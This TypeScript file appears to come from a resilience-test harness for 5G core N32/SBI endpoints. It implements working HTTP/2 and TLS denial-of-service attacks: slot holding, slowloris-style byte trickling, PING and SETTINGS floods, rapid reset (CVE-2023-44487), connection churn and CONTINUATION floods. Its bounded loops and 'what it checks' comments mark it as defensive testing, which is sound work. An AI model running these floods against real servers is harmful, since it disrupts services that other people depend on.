// scripts/abuse/attacks-common.ts — attack patterns shared by the N32 and SBI attacks: holding connection slots
// (replacing each one the server closes), flooding HTTP/2 control frames without reading the answers, trickling the
// first bytes of a connection, and the rapid reset. Every loop is bounded by time and by count.
import {
  clientPreface,
  continuation,
  deadline,
  FRAME,
  headersFrame,
  median,
  ping,
  rstFrame,
  SETTINGS_ACK,
  settingsFrame,
  sleep,
  writeBounded,
  type Conn,
  type Summary,
  upWithin,
} from "./raw.ts";

export interface HoldOptions {
  /** connections kept open at once */
  target: number;
  /** new connections per second at most */
  perSecond: number;
  maxAttempts: number;
  durationMs: number;
  /** after the connection is up: what to send first (HTTP/2 preface) and every `pingEveryMs` (PING) */
  h2: boolean;
  pingEveryMs?: number;
}

/**
 * Until `done()`: keep `target` connections open (`live`; each one that closes is replaced), opening at most
 * `perSecond` a second and `maxAttempts` in all (`all`); `opened` sees each new one.
 */
async function keepOpen(
  open: () => Conn,
  o: { target: number; perSecond: number; maxAttempts: number },
  done: () => boolean,
  all: Conn[],
  live: Set<Conn>,
  opened?: (c: Conn) => void,
): Promise<void> {
  while (!done() && all.length < o.maxAttempts) {
    if (live.size >= o.target) {
      await sleep(20);
      continue;
    }
    const c = open();
    all.push(c);
    live.add(c);
    void c.closed.then(() => live.delete(c));
    opened?.(c);
    await sleep(1000 / o.perSecond);
  }
  while (!done()) await sleep(50);
}

/** Hold up to `target` connections; each one the server closes is replaced. */
export async function holdSlots(open: () => Conn, o: HoldOptions): Promise<Summary> {
  const done = deadline(o.durationMs);
  const live = new Set<Conn>();
  const all: Conn[] = [];
  let upCount = 0;
  let pings = 0;
  const timer = o.pingEveryMs
    ? setInterval(() => {
        for (const c of live) if (!c.isClosed()) c.socket.write(ping(pings++));
      }, o.pingEveryMs)
    : null;
  await keepOpen(open, o, done, all, live, (c) => {
    void c.ready.then((up) => {
      if (!up) return;
      upCount++;
      if (o.h2) c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK]));
    });
  });
  if (timer) clearInterval(timer);
  const heldAtEnd = [...live].filter((c) => !c.isClosed()).length;
  // admitted = the server spoke HTTP/2 on it (its SETTINGS frame)
  const admitted = all.filter((c) => c.frames.count(FRAME.SETTINGS) > 0).length;
  const closedByServer = all.filter((c) => c.closedByServer());
  for (const c of all) c.destroy();
  return {
    attempts: all.length,
    up: upCount,
    admitted,
    closedByServer: closedByServer.length,
    medianLifeMsClosedByServer: Math.round(median(closedByServer.map((c) => c.lifetime()))),
    heldAtEnd,
  };
}

export interface FloodOptions {
  /** connections flooding at once */
  conns: number;
  /** connections in all (each one the server ends is replaced, at most one per worker every `gapMs`) */
  maxConns: number;
  gapMs: number;
  /** frames per write */
  batch: number;
  /** writes of `batch` frames per connection at most (the runtime ends a flooding connection well before) */
  maxWritesPerConn: number;
  durationMs: number;
}

/** Control-frame flood (CVE-2019-9512 PING, CVE-2019-9515 SETTINGS): `batch` frames per write, a millisecond
 *  apart, reading the answers (a batch under ~1000 unanswered frames stays under the runtime's own burst bound, so
 *  only the SEPP's rate bound ends it); a connection the server ends is replaced. */
export async function controlFlood(open: () => Conn, kind: "settings" | "ping", o: FloodOptions): Promise<Summary> {
  const done = deadline(o.durationMs);
  const all: Conn[] = [];
  let bytes = 0;
  let frames = 0;
  const one = kind === "settings" ? settingsFrame() : ping(7);
  const chunk = Buffer.concat(Array.from({ length: o.batch }, () => one));
  const worker = async () => {
    while (!done() && all.length < o.maxConns) {
      await sleep(o.gapMs);
      const c = open();
      all.push(c);
      if (!(await upWithin(c, 5000))) {
        c.destroy();
        continue;
      }
      c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK]));
      for (let i = 0; i < o.maxWritesPerConn && !done() && (await writeBounded(c, chunk, 500)); i++) {
        bytes += chunk.length;
        frames += o.batch;
        await sleep(1);
      }
      await Promise.race([c.closed, sleep(300)]);
      c.destroy();
    }
  };
  await Promise.all(Array.from({ length: o.conns }, worker));
  return {
    connections: all.length,
    framesWritten: frames,
    mbWritten: Math.round(bytes / 1e5) / 10,
    closedByServer: all.filter((c) => c.closedByServer()).length,
    goawayEnhanceYourCalm: all.filter((c) => c.frames.goaway === 0xb).length,
    medianLifeMsClosedByServer: Math.round(median(all.filter((c) => c.closedByServer()).map((c) => c.lifetime()))),
    answersRead: all.reduce((n, c) => n + c.frames.count(kind === "settings" ? FRAME.SETTINGS : FRAME.PING), 0),
  };
}

/** Open `target` connections that send `bytes` one octet every `everyMs` (slow TLS ClientHello, slow preface). */
export async function trickle(
  open: () => Conn,
  bytes: Buffer,
  o: { target: number; perSecond: number; everyMs: number; maxAttempts: number; durationMs: number },
): Promise<Summary> {
  const done = deadline(o.durationMs);
  const live = new Set<Conn>();
  const all: Conn[] = [];
  const sent = new Map<Conn, number>();
  const timer = setInterval(() => {
    for (const c of live) {
      const i = sent.get(c) ?? 0;
      if (c.isClosed() || i >= bytes.length - 1) continue; // never the last octet: the handshake never completes
      c.socket.write(bytes.subarray(i, i + 1));
      sent.set(c, i + 1);
    }
  }, o.everyMs);
  await keepOpen(open, o, done, all, live);
  clearInterval(timer);
  const closed = all.filter((c) => c.closedByServer());
  const heldAtEnd = [...live].filter((c) => !c.isClosed()).length;
  for (const c of all) c.destroy();
  return {
    attempts: all.length,
    closedByServer: closed.length,
    closedWithin100ms: closed.filter((c) => c.lifetime() < 100).length,
    medianLifeMsClosedByServer: Math.round(median(closed.map((c) => c.lifetime()))),
    heldAtEnd,
  };
}

/** A new connection of a flood that replaces the ones the server ends (kept in `all`): up within 5 s, else null
 *  (destroyed, 100 ms later). */
async function nextUp(open: () => Conn, all: Conn[]): Promise<Conn | null> {
  const c = open();
  all.push(c);
  if (await upWithin(c, 5000)) return c;
  c.destroy();
  await sleep(100);
  return null;
}

/** Rapid reset (CVE-2023-44487): HEADERS + RST_STREAM pairs, `batch` per write; a connection the server ends is
 *  replaced. `path(i)` marks each request so the producer can count what got through. */
export async function rapidReset(
  open: () => Conn,
  headers: (i: number) => Array<[string, string]>,
  o: { batch: number; maxStreams: number; durationMs: number; maxConns: number; gapMs: number },
): Promise<Summary> {
  const done = deadline(o.durationMs);
  const all: Conn[] = [];
  let streams = 0;
  while (!done() && streams < o.maxStreams && all.length < o.maxConns) {
    const c = await nextUp(open, all);
    if (!c) continue;
    c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK]));
    let id = 1;
    while (!done() && streams < o.maxStreams && c.frames.goaway === null && id < 2 ** 30) {
      const parts: Buffer[] = [];
      for (let i = 0; i < o.batch; i++, id += 2) parts.push(headersFrame(id, headers(streams++)), rstFrame(id));
      if (!(await writeBounded(c, Buffer.concat(parts), 500))) break;
      await sleep(o.gapMs); // paced (and lets the GOAWAY in)
    }
    c.destroy();
  }
  return {
    connections: all.length,
    streamsSent: streams,
    goawayEnhanceYourCalm: all.filter((c) => c.frames.goaway === 0xb).length,
    closedByServer: all.filter((c) => c.closedByServer()).length,
  };
}

/** Connection churn: `conns` loops each open a connection, send `first` once it is up (or nothing), and close it
 *  at once, at most `perSecond` opened a second in all and `maxAttempts` in all. What it checks: a listener that
 *  counts a closed connection late (its close event after the next accept) must not refuse legitimate clients of
 *  other addresses, and must not keep what each connection cost. */
export async function churn(
  open: () => Conn,
  first: Buffer | null,
  o: { conns: number; perSecond: number; maxAttempts: number; durationMs: number },
): Promise<Summary> {
  const done = deadline(o.durationMs);
  let attempts = 0;
  let up = 0;
  let failed = 0;
  const gapMs = (1000 * o.conns) / o.perSecond;
  const loop = async () => {
    while (!done() && attempts < o.maxAttempts) {
      attempts++;
      const started = performance.now();
      const c = open();
      if (await upWithin(c, 2000)) {
        up++;
        if (first) c.socket.write(first);
      } else failed++;
      c.destroy();
      await c.closed;
      const rest = gapMs - (performance.now() - started);
      if (rest > 0) await sleep(rest);
    }
  };
  await Promise.all(Array.from({ length: o.conns }, loop));
  return { attempts, up, notUpWithin2s: failed };
}

/** CONTINUATION flood (CVE-2024-27316 and its kin): a HEADERS frame that does not end its field block, then empty
 *  CONTINUATION frames, `batch` per write, never END_HEADERS; a connection the server ends is replaced. What it checks:
 *  the server bounds the frames of one field block (and what it keeps of them) and ends the connection. */
export async function continuationFlood(
  open: () => Conn,
  first: (i: number) => Buffer,
  o: { batch: number; maxFrames: number; durationMs: number; maxConns: number; gapMs: number },
): Promise<Summary> {
  const done = deadline(o.durationMs);
  const all: Conn[] = [];
  let frames = 0;
  const empties = Buffer.concat(Array.from({ length: o.batch }, () => continuation(1, Buffer.alloc(0), 0)));
  while (!done() && frames < o.maxFrames && all.length < o.maxConns) {
    const c = await nextUp(open, all);
    if (!c) continue;
    c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK, first(all.length)]));
    while (!done() && frames < o.maxFrames && c.frames.goaway === null && (await writeBounded(c, empties, 500))) {
      frames += o.batch;
      await sleep(o.gapMs);
    }
    await Promise.race([c.closed, sleep(300)]);
    c.destroy();
  }
  const closed = all.filter((c) => c.closedByServer());
  return {
    connections: all.length,
    continuationFrames: frames,
    closedByServer: closed.length,
    goawayCodes: [...new Set(all.map((c) => c.frames.goaway).filter((g) => g !== null))].join(",") || "none",
    medianLifeMsClosedByServer: Math.round(median(closed.map((c) => c.lifetime()))),
  };
}
